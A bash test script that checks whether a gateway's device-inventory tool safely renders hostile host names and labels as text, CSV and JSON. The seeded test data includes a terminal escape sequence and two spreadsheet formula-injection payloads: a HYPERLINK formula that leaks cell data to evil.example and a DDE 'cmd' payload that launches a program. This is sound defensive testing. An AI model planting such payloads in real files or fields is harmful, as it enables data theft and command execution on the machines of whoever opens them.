#!/bin/bash
# The inventory as people read it: apgatectl inventory as an aligned table,
# as CSV for a spreadsheet and as JSON for scripts, against the real
# apgated (observe only, no zones, in a private network namespace) over its
# admin socket. The registry is seeded through the registry's own API
# (build/tests/reg_seed): devices with hostile host names and labels
# (control characters, an escape sequence, a newline, quotes, commas,
# invalid UTF-8, spreadsheet formulas), check findings, unmanaged MACs,
# blocked look-ups and alerts.
#
#   text   one aligned row per device and unmanaged MAC, counts by type and
#          zone; no control character reaches the terminal
#   CSV    parsed by python3's csv module: one record per device, 14
#          fields each, the hostile strings made harmless (no CR/LF/ESC,
#          U+FFFD for invalid UTF-8), every formula-looking field starting
#          with an apostrophe, quotes and commas kept intact
#   JSON   parsed by python3: counts add up (total = devices = sum by type
#          = sum by zone), a guessed type ends with "?", findings listed
#   also   apgatectl show (suggestion, findings with advice, blocked
#          look-ups), unmanaged, dns-blocks, alerts (kinds in words), check
#          (refused without zones, clear errors), usage errors (exit 2)
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../lab/tap.sh"
B=${APGATE_BUILD:-$HERE/../../build}
[ "$(id -u)" = 0 ] || tap_skip_all "needs root (network namespace)"
for t in "$B/apgated" "$B/apgatectl" "$B/tests/reg_seed"; do
	[ -x "$t" ] || tap_bail "no $t (make build tests first)"
done
command -v python3 >/dev/null || tap_bail "no python3"

NS=apginv-$$-$RANDOM
W=$(mktemp -d /tmp/apgate-inv-XXXXXX)
DAEMON=
cleanup() {
	[ -n "$DAEMON" ] && kill "$DAEMON" 2>/dev/null
	wait 2>/dev/null
	ip netns del "$NS" 2>/dev/null
	[ -n "${KEEP:-}" ] || rm -rf "$W"
	tap_cleanup
}
trap cleanup EXIT
ip netns add "$NS" || tap_bail "cannot create a network namespace"
ip netns exec "$NS" ip link set lo up
mkdir -p "$W/ctrl" "$W/oui"
# the IEEE registry's format (Debian's ieee-data), one made-up prefix
printf '00-11-22   (hex)\t\tShop Camera Works\n001122     (base 16)\t\tShop Camera Works\n' >"$W/oui/oui.txt"
cat >"$W/apgate.conf" <<EOC
[apgated]
registry = $W/registry.db
admin_socket = $W/admin.sock
log_level = debug
oui_dir = $W/oui
[hostapd]
ctrl_dir = $W/ctrl
client_dir = $W/client
data_dir = $W/hostapd-lists
[bss ap0]
zone = work
EOC
ctl() { "$B/apgatectl" -s "$W/admin.sock" "$@"; }
wait_for() { local end=$((SECONDS + $1)); shift; until "$@" >/dev/null 2>&1; do [ $SECONDS -ge $end ] && return 1; sleep 0.05; done; }

P=02:00:00:00:11:01   # the front printer: approved, two findings
F=02:00:00:00:11:02   # formulas in its host name, label and owner
H=02:00:00:00:11:03   # hostile host name; pending; blocked look-ups
I=a2:00:00:00:11:04   # an iPhone with a private address, type not set
X=02:00:00:00:11:05   # blocked
U1=00:11:22:33:44:55  # unmanaged
U2=06:77:88:99:aa:bb  # unmanaged, private address
HOSTILE='evil\x1b[31mred\nline2,"q"\xff\xfe\x07end'
# fields: TAB-separated, with C escapes (reg_seed decodes them)
"$B/tests/reg_seed" "$W/registry.db" <<EOS || tap_bail "reg_seed could not fill the registry"
device	$P	10.0.0.11	EPSON1234	 	 	Seiko Epson Corporation
approve	$P	business	Front printer	Anna	printer
findings	$P	telnet/23	http-admin/80/Web Config
device	$F	10.0.0.12	=HYPERLINK("http://evil.example/?"&A1)
approve	$F	business	=cmd|' /C calc'!A0	-2+3 Bob, "the boss"	pc
device	$H	10.0.0.13	$HOSTILE
dns	$H	10.0.0.13	phish.example	3
dns	$H	10.0.0.13	@malware.example
device	$I	10.0.0.14	iPhone
device	$X	10.0.0.15	+plus-host
block	$X
unmanaged	$U1	br-work	10.0.0.99
unmanaged	$U2	eth-uplink
alert	risky_service	$P	Front printer (EPSON1234) has telnet/23 open: turn it off
alert	unmanaged	$U1	A device 00:11:22:33:44:55 on br-work bypasses the access point
EOS

ip netns exec "$NS" "$B/apgated" -f -c "$W/apgate.conf" 2>>"$W/apgated.log" &
DAEMON=$!
wait_for 10 ctl status || tap_bail "apgated does not start" "$(tail -20 "$W/apgated.log")"

# ---- text ----
ctl inventory >"$W/inv.txt" 2>"$W/inv.err"
check_eq "apgatectl inventory exits 0" 0 $?
check "it prints a header with NAME, MAC, TYPE, ZONE, VENDOR, FIRST SEEN, LAST SEEN, FINDINGS, OWNER" \
	grep -Eq '^NAME +MAC +TYPE +ZONE +STATE +VENDOR +IP +FIRST SEEN +LAST SEEN +FINDINGS +OWNER' "$W/inv.txt"
row() { grep -F "$1" "$W/inv.txt" | head -1; }
check_match "the front printer's row: label, MAC, printer, work, approved, vendor, IP, findings, owner" \
	"^Front printer +$P +printer +work +approved +Seiko Epson Corpora.* +10\.0\.0\.11 +.*telnet/23 http-.* +Anna" "$(row "$P")"
check_match "the iPhone's type is a guess (phone?), in onboarding" "^iPhone +$I +phone\? +onboarding +pending " "$(row "$I")"
check_match "unmanaged MACs are listed as such" "^\(unmanaged\) +$U1 +unknown +unmanaged +unmanaged " "$(row "$U1")"
check_eq "one line per device: header + 7 rows + 4 summary lines" 12 "$(wc -l <"$W/inv.txt")"
check "no control character reaches the terminal (ESC, BEL, CR)" \
	bash -c "! LC_ALL=C grep -q \$'[\x01-\x08\x0b-\x1f\x7f]' '$W/inv.txt'"
check_match "the hostile host name is shown with '?' for its controls" "^evil\?\[31mred\?line2,\"q +$H " "$(row "$H")"
check_match "counts: 7 devices, 2 of them unmanaged" "^7 device\(s\), 2 of them unmanaged" "$(grep '^7 device' "$W/inv.txt")"
check_match "counts by zone" "^by zone: .*work 2.*" "$(grep '^by zone:' "$W/inv.txt")"
check_match "counts by type" "^by type: .*printer 1.*" "$(grep '^by type:' "$W/inv.txt")"

# ---- CSV ----
ctl inventory --csv >"$W/inv.csv"
check_eq "apgatectl inventory --csv exits 0" 0 $?
cat >"$W/csv_check.py" <<'EOP'
import csv, sys
P, F, H, I, X, U1, U2 = sys.argv[2:9]
raw = open(sys.argv[1], 'rb').read()
ok = True
def t(cond, what):
    global ok
    print(('ok - ' if cond else 'not ok - ') + 'CSV: ' + what)
    ok = ok and cond
text = raw.decode('utf-8')  # must be valid UTF-8
t(text.count('\r\n') == 8 and '\n' not in text.replace('\r\n', ''), 'one CRLF-terminated line per record (8), no bare newline')
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
head, body = rows[0], rows[1:]
t(head == ['label', 'hostname', 'mac', 'type', 'zone', 'state', 'vendor', 'ip', 'first_seen', 'last_seen',
           'findings', 'n_findings', 'owner', 'managed'], 'the header names the 14 columns')
t(len(body) == 7 and all(len(r) == 14 for r in body), '7 records of 14 fields')
by = {r[2]: dict(zip(head, r)) for r in body}
t(set(by) == {P, F, H, I, X, U1, U2}, 'every device and unmanaged MAC once')
p = by[P]
t((p['label'], p['type'], p['zone'], p['state'], p['vendor'], p['ip'], p['owner']) ==
  ('Front printer', 'printer', 'work', 'approved', 'Seiko Epson Corporation', '10.0.0.11', 'Anna'), 'the printer row')
t(p['findings'] == 'telnet/23 http-admin/80' and p['n_findings'] == '2', 'its findings: telnet/23 http-admin/80, 2')
t(p['first_seen'].endswith('Z') and p['first_seen'][:2] == '20', 'first seen in ISO 8601 UTC')
f = by[F]
t(f['label'] == "'=cmd|' /C calc'!A0", "a label starting with = gets a leading apostrophe: " + f['label'])
t(f['hostname'] == "'=HYPERLINK(\"http://evil.example/?\"&A1)", 'so does a formula host name (quotes kept): ' + f['hostname'])
t(f['owner'] == "'-2+3 Bob, \"the boss\"", 'an owner starting with - too, with its comma and quotes kept: ' + f['owner'])
t(by[X]['hostname'] == "'+plus-host" and by[X]['zone'] == 'blocked', 'a host name starting with + too; blocked zone')
h = by[H]['hostname']
t(not any(c in h for c in '\r\n\x1b\x07'), 'the hostile host name has no CR, LF, ESC or BEL: %r' % h)
t('\ufffd' in h and h.startswith('evil?[31mred?line2,"q"'), 'controls became ?, invalid UTF-8 became U+FFFD: %r' % h)
t(by[I]['type'] == 'phone?', "the iPhone's guessed type is phone?")
t(by[U1]['managed'] == 'no' and by[U1]['zone'] == 'unmanaged' and by[U1]['ip'] == '10.0.0.99', 'unmanaged MAC marked as such')
t(by[P]['managed'] == 'yes', 'devices are managed')
bad = [v for r in body for v in r if v[:1] in ('=', '+', '-', '@')]
t(not bad, 'no field starts with = + - @ (formula injection neutralised): %r' % bad)
sys.exit(0 if ok else 1)
EOP
python3 "$W/csv_check.py" "$W/inv.csv" "$P" "$F" "$H" "$I" "$X" "$U1" "$U2" >"$W/csv.tap" 2>&1
cat "$W/csv.tap"
TAP_N=$((TAP_N + $(grep -c '^ok - \|^not ok - ' "$W/csv.tap")))
TAP_FAILED=$((TAP_FAILED + $(grep -c '^not ok - ' "$W/csv.tap")))
grep -q '^\(not \)\?ok - ' "$W/csv.tap" || tap_fail "CSV: python could not read it" "$(cat "$W/csv.tap")"

# ---- JSON ----
ctl inventory --json >"$W/inv.json"
check_eq "apgatectl inventory --json exits 0" 0 $?
cat >"$W/json_check.py" <<'EOP'
import json, sys
P, H, I, U1 = sys.argv[2:6]
ok = True
def t(cond, what):
    global ok
    print(('ok - ' if cond else 'not ok - ') + 'JSON: ' + what)
    ok = ok and cond
j = json.load(open(sys.argv[1], encoding='utf-8'))
d = {x['mac']: x for x in j['devices']}
c = j['counts']
t(c['total'] == len(j['devices']) == 7, 'total = number of devices = 7')
t(sum(c['by_type'].values()) == c['total'] and sum(c['by_zone'].values()) == c['total'], 'counts by type and by zone add up to the total')
zones = {}
for x in j['devices']:
    zones[x['zone']] = zones.get(x['zone'], 0) + 1
t(zones == c['by_zone'], 'counts by zone match the devices: %r' % c['by_zone'])
t(c['unmanaged'] == 2 and c['by_zone'].get('unmanaged') == 2, '2 unmanaged')
t(d[P]['findings'] == ['telnet/23', 'http-admin/80'] and d[P]['n_findings'] == 2, 'the printer has its findings')
t(d[I]['type'] == 'phone?' and d[I]['type_guessed'] is True, 'a guessed type ends with ?')
t(d[P]['type'] == 'printer' and d[P]['type_guessed'] is False, 'a set type does not')
t(d[H]['hostname'].startswith('evil\x1b[31mred\nline2,"q"\ufffd\ufffd\x07'), 'the hostile host name arrives verbatim, invalid bytes as U+FFFD')
t(d[U1]['managed'] is False and d[U1]['state'] == 'unmanaged' and d[U1]['where'] == 'br-work', 'unmanaged entry')
t(d[U1]['vendor'] == 'Shop Camera Works', "an unmanaged MAC's vendor comes from the OUI table")
t('ok' not in j and j['generated'].endswith('Z'), 'the report, with when it was made')
sys.exit(0 if ok else 1)
EOP
python3 "$W/json_check.py" "$W/inv.json" "$P" "$H" "$I" "$U1" >"$W/json.tap" 2>&1
cat "$W/json.tap"
TAP_N=$((TAP_N + $(grep -c '^ok - \|^not ok - ' "$W/json.tap")))
TAP_FAILED=$((TAP_FAILED + $(grep -c '^not ok - ' "$W/json.tap")))
grep -q '^\(not \)\?ok - ' "$W/json.tap" || tap_fail "JSON: python could not read it" "$(cat "$W/json.tap")"

ctl inventory --csv --json >/dev/null 2>&1
check_eq "inventory --csv --json is a usage error (exit 2)" 2 $?
ctl inventory --pdf >/dev/null 2>&1
check_eq "inventory --pdf is a usage error (exit 2)" 2 $?

# ---- the other views ----
out=$(ctl show "$P")
check_match "show: the findings with advice in plain words" "telnet on port 23"$'\n'"  +Telnet sends passwords unencrypted" "$out"
check_match "show: when it was last checked" $'\n'"checked +[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]+ \(2 risky services found\)" "$out"
check_match "show: the suggestion" "^suggestion +[a-z]" "$(grep '^suggestion' <<<"$out")"
out=$(ctl show "$I")
check_match "show: the iPhone's suggestion names a reason" "^suggestion +.*\((host name \"iPhone\"|private \(randomised\) address|DHCP)" "$(grep '^suggestion' <<<"$out")"
check_match "show: never checked" $'\n'"checked +never" "$out"
out=$(ctl show "$H")
check_match "show: blocked DNS look-ups with how often" "blocked DNS look-ups \(2 domains\):.*10\.0\.0\.13 +3  phish\.example" "$(tr '\n' ' ' <<<"$out")"
check "show: no control character reaches the terminal" bash -c "! LC_ALL=C grep -q \$'[\x01-\x08\x0b-\x1f\x7f]' <<<\"\$1\"" _ "$out"
out=$(ctl dns-blocks)
check_match "dns-blocks lists the device and the domain" "$H +10\.0\.0\.13 +3  phish\.example" "$out"
check_match "dns-blocks MAC" "@malware\.example" "$(ctl dns-blocks "$H")"
check_eq "dns-blocks of a device without any" "no blocked look-ups by this device" "$(ctl dns-blocks "$P")"
out=$(ctl unmanaged)
check_match "unmanaged lists the MAC, its vendor (OUI), where and the IP" "$U1 +Shop Camera Works +br-work +10\.0\.0\.99" "$out"
check_match "and names a private address" "$U2 +\(private address\) +eth-uplink" "$out"
check_match "and says what they are" "2 unmanaged device\(s\): they bypass the access point" "$out"
out=$(ctl alerts)
check_match "alerts: the kinds read as words" "risky service +$P +Front printer" "$out"
check_match "alerts: bypassing the AP" "bypasses AP +$U1 " "$out"
out=$(ctl check "$P" 2>&1)
check_eq "check without zones fails (exit 1)" 1 $?
check_match "saying why" "no address inside the shop's zones" "$out"
ctl check 02:00:00:00:99:99 >/dev/null 2>&1
check_eq "check of an unknown device: exit 1" 1 $?
ctl check not-a-mac >/dev/null 2>&1
check_eq "check of something that is not a MAC: exit 2" 2 $?
ctl check "$P" --wait=0 >/dev/null 2>&1
check_eq "check --wait=0 is a usage error" 2 $?
check "apgated is still running" kill -0 "$DAEMON"
tap_done
